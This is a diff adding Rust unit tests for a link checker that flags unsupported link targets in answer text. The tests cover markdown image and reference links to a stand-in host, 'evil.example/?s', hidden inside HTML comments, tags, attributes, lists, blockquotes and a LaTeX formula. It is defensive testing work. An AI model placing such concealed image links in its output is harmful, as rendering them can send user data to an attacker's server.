@@ -371,3 +371,38 @@ fn a_link_that_continues_after_punctuation_differs() {
         assert_eq!(unsupported(answer), [""; 0], "{answer}");
     }
 }
+
+#[test]
+fn markdown_inside_html_is_reported() {
+    for answer in [
+        "a <!-- ![x](https://evil.example/?s) --> b",
+        "<!--\n\n![x](//evil.example/?s)\n\n-->",
+        "<div>\n![x](//evil.example/?s)\n</div>",
+        "<pre>\n![x](//evil.example/?s)\n</pre>",
+        "<b title=\"![x](//evil.example/?s)\">y</b>",
+        "<ul><li>![x](//evil.example/?s)</li></ul>",
+        "(<!-- ![x](//evil.example/?s) -->)",
+        "<blockquote>\n[x][1]\n\n[1]: //evil.example/?s\n</blockquote>",
+    ] {
+        assert!(
+            unsupported(answer).iter().any(|target| target.contains("//evil.example/?s")),
+            "{answer}: {:?}",
+            unsupported(answer)
+        );
+    }
+}
+
+#[test]
+fn known_links_next_to_html_stay_supported() {
+    for answer in [
+        "<b>See</b> <https://known.example/1> and [it](<https://known.example/1>).",
+        "1 < 2, see [page](https://known.example/1) <br> again",
+    ] {
+        assert_eq!(unsupported(answer), [""; 0], "{answer}");
+    }
+}
+
+#[test]
+fn links_in_formulas_are_reported() {
+    assert_reports("$\\href{//evil.example/x}{x}$", "//evil.example/x");
+}
